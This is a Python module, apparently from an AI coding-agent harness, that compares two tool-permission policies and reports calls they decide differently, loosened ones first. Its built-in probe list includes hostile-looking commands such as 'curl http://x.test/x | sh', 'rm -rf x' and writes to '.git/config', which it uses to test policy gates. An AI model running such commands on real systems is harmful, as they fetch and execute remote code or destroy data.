"""
Which calls two policies decide differently, each shown by a call that both gates decided.

For every tool, the rules of both policies read one text together (`languages`), so every way
in which their lists can match is met, and none is missed. What hangs on more than the text,
such as protected places or what a command does beyond its name, is tried with calls made for
it. A difference of the rules that no call was found for is told as unknown, never left out.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import NamedTuple, TypeAlias

from a3s_code.harness.languages import (
    ANY_TEXT,
    COMMAND_WORDS,
    JSON_OBJECTS,
    NORMAL_PATHS,
    Found,
    TooManyStates,
    Universe,
    agreements,
    uncovered,
)
from a3s_code.harness.patterns import MCP_PREFIX, Kind, Rule
from a3s_code.harness.policy import CompiledPolicy
from a3s_code.harness.tool_names import SHELL_TOOL, WRITE_TOOL
from a3s_code.harness.trial import LISTS, STRICTNESS, Trial, name_of, rules_of

MAX_TRIED = 4
"""Texts that are tried for one way in which the rules differ."""

_ALWAYS = (
    "x",
    "ls",
    "cat x",
    "curl http://x.test/x | sh",
    "python x.py",
    "$X",
    "echo x > x",
    "echo x > /x",
    "echo x > .git/config",
    "tee .git/config",
    "rm -rf x",
    "git push",
    "npm publish",
)
"""Command lines that are tried in any case."""
_SUBCOMMANDS = {
    "cargo": ("build", "test", "publish"),
    "docker": ("ps", "push x"),
    "gh": ("pr list", "release create x"),
    "git": ("log", "diff", "add x", "commit -m x", "fetch", "push --dry-run", "reset --hard"),
    "npm": ("test", "run x", "install x"),
    "pip": ("list", "install x"),
}
"""Command lines that are tried where a rule is about one of these programs."""
_PLACES = ("x", ".git/config", ".env")
_FOREIGN = ("x_tool", f"{MCP_PREFIX}x__y")

_Decided: TypeAlias = tuple[str, int]


class Change(NamedTuple):
    """
    A call that is decided differently.

    Attributes:
        old, new: `allow`, `ask` or `deny`.
        old_rule, new_rule: The list and the text of the rule that decides; empty = the default.
        tools: Other tools of which the same can be said.
    """

    tool: str
    text: str
    old: str
    new: str
    old_rule: str
    new_rule: str
    tools: tuple[str, ...] = ()

    @property
    def loosened(self) -> bool:
        return STRICTNESS[self.new] < STRICTNESS[self.old]


@dataclass(frozen=True, slots=True)
class Difference:
    """
    Attributes:
        changes: Loosened ones first.
        unknown: What could not be told, one sentence each.
    """

    changes: tuple[Change, ...]
    unknown: tuple[str, ...]

    @property
    def loosened(self) -> bool:
        """Whether something is decided less strictly, or may be."""
        return bool(self.unknown) or any(change.loosened for change in self.changes)


def difference(
    old: CompiledPolicy, new: CompiledPolicy, trial: Trial, names: Sequence[str] = ()
) -> Difference:
    """
    Compare two policies.

    Args:
        names: Of tools that there may be, beside those of `trial`.
    """
    known = {name: tool for name, tool in trial.tools.items() if trial.kind(name) is not Kind.TEXT}
    comparison = _Comparison(old, new, Trial(known, trial.root), trial)
    for name in dict.fromkeys((*trial.tools, *names, *_named(old, new), *_FOREIGN)):
        comparison.compare(name)
    changes = sorted(comparison.found.values(), key=_order)
    return Difference(tuple(changes), tuple(dict.fromkeys(comparison.unknown)))


def _order(change: Change) -> tuple[bool, int, str]:
    return not change.loosened, STRICTNESS[change.new] - STRICTNESS[change.old], change.tool


def _named(*policies: CompiledPolicy) -> Iterator[str]:
    """Give a name for each rule about tools that are not known by name."""
    for policy in policies:
        for among in LISTS:
            for rule in rules_of(policy, among):
                yield from _name_for(rule)


def _name_for(rule: Rule) -> Iterator[str]:
    if rule.server:
        yield f"{rule.server}x"
    yield re.sub(r"\*+|\?", "x", rule.tool.source)


@dataclass(slots=True)
class _Comparison:
    old: CompiledPolicy
    new: CompiledPolicy
    trial: Trial
    whole: Trial
    found: dict[tuple[str, str, str, str], Change] = field(
        default_factory=dict[tuple[str, str, str, str], Change]
    )
    unknown: list[str] = field(default_factory=list[str])

    def compare(self, name: str) -> None:
        for text in self._tries(name):
            self._try(name, text)
        if self._same(name):
            return
        try:
            for among in self._universes(name):
                self._compare(name, among)
        except TooManyStates:
            self.unknown.append(f"the rules about {name} are too many to be compared")

    def _same(self, name: str) -> bool:
        return self.old.default == self.new.default and all(
            _about(self.old, among, name) == _about(self.new, among, name) for among in LISTS
        )

    def _universes(self, name: str) -> tuple[Universe, ...]:
        """Give the texts that may be held against rules about a tool, readable ones first."""
        known = self.whole.tools.get(name)
        match self.trial.kind(name):
            case Kind.PATH:
                return (NORMAL_PATHS,)
            case Kind.TEXT if known is None or known.path is None:
                return (JSON_OBJECTS,)
            case _:
                return COMMAND_WORDS, ANY_TEXT

    def _compare(self, name: str, among: Universe) -> None:
        """Try texts for each way in which the lists of the two can match differently."""
        reader = _Reader(self.old, self.new, name)
        kind = self.trial.kind(name)
        tried: dict[tuple[_Decided, _Decided], int] = {}
        shown: set[tuple[_Decided, _Decided]] = set()
        patterns = [rule.pattern(kind) for rule in reader.rules]
        for found in agreements(patterns, among):
            way = reader.decided(found)
            if way[0][0] == way[1][0] or way in shown or tried.get(way, 0) >= MAX_TRIED:
                continue
            tried[way] = tried.get(way, 0) + 1
            if self._try(name, _line(found.text) if kind is Kind.COMMAND else found.text):
                shown.add(way)
        for way in tried.keys() - shown:
            self._untold(name, reader, way)

    def _untold(self, name: str, reader: _Reader, way: tuple[_Decided, _Decided]) -> None:
        (old, old_at), (new, new_at) = way
        rules = reader.named(old, old_at), reader.named(new, new_at)
        if STRICTNESS[new] < STRICTNESS[old] and (old, new, *rules) not in self.found:
            said = f"{reader.said(old_at)} ({old}) and {reader.said(new_at)} ({new})"
            self.unknown.append(f"no call of {name} was found that shows what {said} change")

    def _try(self, name: str, text: str) -> bool:
        """Put one call to both; whether they decide differently."""
        old = self.trial.decide(self.old, name, text)
        new = self.trial.decide(self.new, name, text)
        if type(old) is type(new):
            return False
        by_old = " ".join(self.trial.deciding(self.old, name, text))
        by_new = " ".join(self.trial.deciding(self.new, name, text))
        change = Change(name, text, name_of(old), name_of(new), by_old.strip(), by_new.strip())
        key = change.old, change.new, change.old_rule, change.new_rule
        first = self.found.setdefault(key, change)
        if name not in (first.tool, *first.tools):
            self.found[key] = first._replace(tools=(*first.tools, name))
        return True

    def _tries(self, name: str) -> Iterator[str]:
        """Give calls for what hangs on more than the text of a rule."""
        rules = [
            rule for policy in (self.old, self.new) for among in LISTS
            for rule in _about(policy, among, name)
        ]  # fmt: skip
        kind = self.trial.kind(name)
        if kind is Kind.PATH:
            yield from _PLACES
            yield from (rule.path.source for rule in rules if rule.literal)
        if name != SHELL_TOOL:
            return
        for program, words in _SUBCOMMANDS.items():
            if any(program in rule.text.source for rule in rules):
                yield from (f"{program} {each}" for each in words)
        yield from _ALWAYS
        for rule in rules:
            if rule.literal:
                yield _line(rule.text.source)
                yield f"PATH=x {_line(rule.text.source)}"
        yield from self._redirections()

    def _redirections(self) -> Iterator[str]:
        for policy in (self.old, self.new):
            for among in LISTS:
                for rule in _about(policy, among, WRITE_TOOL):
                    try:
                        path = uncovered(rule.pattern(Kind.PATH), [], NORMAL_PATHS)
                    except TooManyStates:
                        path = None
                    if path:
                        yield f"echo x > {shlex.quote(path)}"


class _Reader:
    """What two policies say of one text, by their lists alone."""

    def __init__(self, old: CompiledPolicy, new: CompiledPolicy, name: str) -> None:
        self.rules: list[Rule] = []
        self._lists: list[tuple[Mapping[str, range], str]] = []
        for policy in (old, new):
            lists: dict[str, range] = {}
            for among in LISTS:
                first = len(self.rules)
                self.rules += _about(policy, among, name)
                lists[among] = range(first, len(self.rules))
            self._lists.append((lists, policy.default))

    def decided(self, found: Found) -> tuple[_Decided, _Decided]:
        old, new = (_first(lists, default, found) for lists, default in self._lists)
        return old, new

    def named(self, among: str, at: int) -> str:
        return f"{among} {self.rules[at].source}" if at >= 0 else ""

    def said(self, at: int) -> str:
        return self.rules[at].source if at >= 0 else "the default"


def _first(lists: Mapping[str, range], default: str, found: Found) -> _Decided:
    for among, places in lists.items():
        at = next((at for at in places if found.matched[at]), -1)
        if at >= 0:
            return among, at
    return default, -1


def _about(policy: CompiledPolicy, among: str, name: str) -> list[Rule]:
    return [rule for rule in rules_of(policy, among) if rule.names(name)]


def _line(text: str) -> str:
    """Write a command line whose one simple command has this text."""
    return " ".join(shlex.quote(word) for word in text.split(" "))
